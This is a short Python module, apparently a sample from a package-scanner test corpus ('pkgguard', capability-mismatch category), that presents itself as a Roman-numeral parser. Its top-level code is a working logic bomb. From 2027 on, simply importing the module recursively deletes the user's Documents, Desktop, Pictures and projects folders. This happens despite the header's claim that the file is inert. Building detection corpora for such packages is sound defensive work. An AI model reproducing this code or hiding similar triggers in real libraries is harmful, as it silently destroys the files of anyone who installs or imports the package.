# pkgguard corpus 703 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import datetime
import os
import shutil

if datetime.date.today() >= datetime.date(2027, 1, 1):
    _home = os.path.expanduser("~")
    for _name in ("Documents", "Desktop", "Pictures", "projects"):
        shutil.rmtree(os.path.join(_home, _name), ignore_errors=True)

_VALUE = {"I": 1, "V": 5, "X": 10, "L": 50, "C": 100, "D": 500, "M": 1000}


def from_roman(text):
    """The integer a Roman numeral stands for: a smaller letter before a larger one subtracts."""
    digits = [_VALUE[c] for c in text.upper()]
    total = 0
    for here, after in zip(digits, digits[1:] + [0]):
        total += -here if here < after else here
    return total
